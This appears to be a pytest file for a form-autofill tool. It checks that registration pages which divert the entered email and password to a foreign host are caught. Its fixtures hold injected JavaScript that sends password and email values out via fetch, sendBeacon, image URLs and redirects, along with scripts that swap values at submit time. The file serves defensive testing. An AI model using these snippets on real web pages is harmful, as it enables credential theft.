"""Where a page is sent: to the portal alone, out of sight, and with what it was proved to hold."""

import re

import pytest
from pydantic import SecretStr

from autofill.errors import AutofillError, OutcomeUnknown, PageUnknown
from autofill.flow.page import PortalPage
from autofill.flow.record.journal import State
from autofill.flow.session import Session
from autofill.forms import Field
from autofill.profile import Profile
from tests.hostile.conftest import Site

_MAIL, _STORE, _PASSWORD = "li.si@example.com", "Li Si Official Store", "hunter2-S3cret!"
_FIELDS = (
    Field[Profile]("email", lambda _: _MAIL),
    Field[Profile]("store_name", lambda _: _STORE),
    Field[Profile]("new-password", lambda _: SecretStr(_PASSWORD)),
)
_PAGE: PortalPage[Profile] = PortalPage(
    heading="account-registration", submit="register", landed=("verify-email",), irrevocable=True, fields=_FIELDS
)
_FORM = """<h1>账号注册</h1><form id=form {form}><p><label>电子邮箱 <input id=mail name=mail></label></p>
<p><label>店铺名称 <input id=store name=store></label></p>
<p><label>密码 <input id=pass name=pass type=password></label></p>{more}<button {button}>立即注册</button></form>"""


@pytest.fixture
def desk(session: Session, portal: Site) -> Session:
    portal.pages["/sent"] = "<h1>验证邮箱</h1>"
    session.address = portal.address
    session.timeout_s = 2
    return session


def _send(desk: Session, portal: Site, form: str = "method=post action=/sent", button: str = "", more: str = "") -> str:
    portal.pages["/"] = _FORM.format(form=form, button=button, more=more)
    desk.open()
    return desk.complete(_PAGE, desk.profile)


def test_a_page_that_is_sent_to_the_portal_is_accepted(desk: Session, portal: Site) -> None:
    assert _send(desk, portal) == "verify-email"
    assert portal.got(_MAIL.replace("@", "%40"))


_ELSEWHERE = {
    "the form's action": {"form": "method=post action=STRANGER/take"},
    "the button's own": {"button": "formaction=STRANGER/take", "form": "method=post action=/sent"},
    "the base": {"form": "method=post action=take", "more": "<base href=STRANGER/>"},
    "another scheme-relative host": {"form": "method=post action=//HOST/take"},
    "in another tab": {"form": "method=post action=STRANGER/take target=_blank"},
    "a box named action": {"form": "method=post action=STRANGER/take", "more": "<input type=hidden name=action>"},
}


@pytest.mark.parametrize("way", _ELSEWHERE)
def test_a_page_that_would_be_sent_elsewhere_is_not_pressed(
    desk: Session, portal: Site, stranger: Site, way: str
) -> None:
    host = stranger.address.removeprefix("http://")
    there = {"STRANGER": stranger.address, "HOST": host}
    parts = {
        name: re.sub("STRANGER|HOST", lambda found: there[found[0]], text) for name, text in _ELSEWHERE[way].items()
    }

    with pytest.raises(PageUnknown, match="is sent to"):
        _send(desk, portal, **parts)
    assert stranger.received == []
    assert desk.journal.entries[-1].state is State.FILLED


_AT_SUBMIT = "form.addEventListener('submit', (event) => {{ {act} }})"
_POST = "fetch('STRANGER/take', {{method: 'POST', mode: 'no-cors', body: {body}}})"
_SCRIPTS = {
    "an action that is set at the submit": _AT_SUBMIT.format(act="form.action = 'STRANGER/take'"),
    "an address at the press": "addEventListener('pointerdown', () => (form.action = 'STRANGER/take'), true)",
    "a request beside it": _AT_SUBMIT.format(act=_POST.format(body="mail.value")),
    "JSON": _AT_SUBMIT.format(act=_POST.format(body="JSON.stringify({p: pass.value})")),
    "an address with a value": _AT_SUBMIT.format(
        act="new Image().src = 'STRANGER/x?' + encodeURIComponent(mail.value)"
    ),
    "a beacon": _AT_SUBMIT.format(act="navigator.sendBeacon('STRANGER/x', pass.value)"),
    "a form of its own": _AT_SUBMIT.format(act="event.preventDefault(); form.action = 'STRANGER/take'; form.submit()"),
    "a page of its own": _AT_SUBMIT.format(act="event.preventDefault(); location = 'STRANGER/x?' + pass.value"),
}


@pytest.mark.parametrize("script", _SCRIPTS)
def test_what_a_script_sends_to_a_stranger_is_stopped_and_said(
    desk: Session, portal: Site, stranger: Site, script: str
) -> None:
    more = f"<script>{_SCRIPTS[script].replace('STRANGER', stranger.address)}</script>"

    with pytest.raises(OutcomeUnknown, match="kept from"):
        _send(desk, portal, more=more)
    assert stranger.got(_MAIL, _PASSWORD, _MAIL.replace("@", "%40"), _STORE) == []
    assert desk.journal.entries[-1].state is State.UNKNOWN


@pytest.mark.parametrize("form", ["", "method=get action=/sent", "action=/sent", "method=post"])
def test_values_are_not_put_into_an_address(desk: Session, portal: Site, form: str) -> None:
    button = "formmethod=get" if form == "method=post" else ""

    with pytest.raises(OutcomeUnknown, match="address"):
        _send(desk, portal, form=form, button=button)
    assert portal.got(_MAIL, _PASSWORD, _MAIL.replace("@", "%40")) == []


def test_a_form_that_a_script_takes_over_needs_no_method(desk: Session, portal: Site) -> None:
    takes = "form.addEventListener('submit', (event) => { event.preventDefault(); location = '/sent' })"

    assert _send(desk, portal, form="", more=f"<script>{takes}</script>") == "verify-email"


def test_a_strangers_page_with_the_right_heading_is_no_acceptance(desk: Session, portal: Site, stranger: Site) -> None:
    stranger.pages["/sent"] = "<h1>验证邮箱</h1>"
    goes = _AT_SUBMIT.format(act=f"event.preventDefault(); location = '{stranger.address}/sent'")

    with pytest.raises(OutcomeUnknown):
        _send(desk, portal, more=f"<script>{goes}</script>")


_EVENTS = ("mouseover", "pointerdown", "mousedown", "pointerup", "mouseup", "click")
_EVE = "mail.value = 'eve@example.net'"
_TWIN = "form.insertAdjacentHTML('beforeend', '<input type=hidden name=mail value=eve@example.net>')"
_LATE = {
    **{f"at {event}": f"addEventListener('{event}', () => ({_EVE}), true)" for event in _EVENTS},
    "at the click, late": f"document.addEventListener('click', () => ({_EVE}))",
    "at submit": _AT_SUBMIT.format(act=_EVE),
    "at formdata": "form.addEventListener('formdata', ({formData}) => formData.set('mail', 'eve@example.net'))",
    "a twin of the same name": _TWIN,
    "a twin at the submit": _AT_SUBMIT.format(act=_TWIN),
    "0.7 s after blur": f"mail.addEventListener('blur', () => setTimeout(() => ({_EVE}), 700))",
    "a getter that lies": "Object.defineProperty(mail, 'value', {get: () => 'li.si@example.com'});"
    + _AT_SUBMIT.format(act=f"mail.name = 'x'; {_TWIN}"),
    "JSON of its own": _AT_SUBMIT.format(
        act="event.preventDefault(); const told = JSON.stringify({mail: 'eve@example.net', store: store.value});"
        "fetch('/api', {method: 'POST', body: told}).then(() => (location = '/sent'))"
    ),
}


@pytest.mark.parametrize("moment", _LATE)
def test_a_value_that_is_changed_at_the_last_moment_is_never_accepted(desk: Session, portal: Site, moment: str) -> None:
    try:
        outcome = _send(desk, portal, more=f"<script>{_LATE[moment]}</script>")
    except AutofillError as error:
        outcome = type(error).__name__
    sent = any("eve%40example.net" in line or "eve@example.net" in line for line in portal.received)

    assert not (sent and outcome == "verify-email"), portal.received
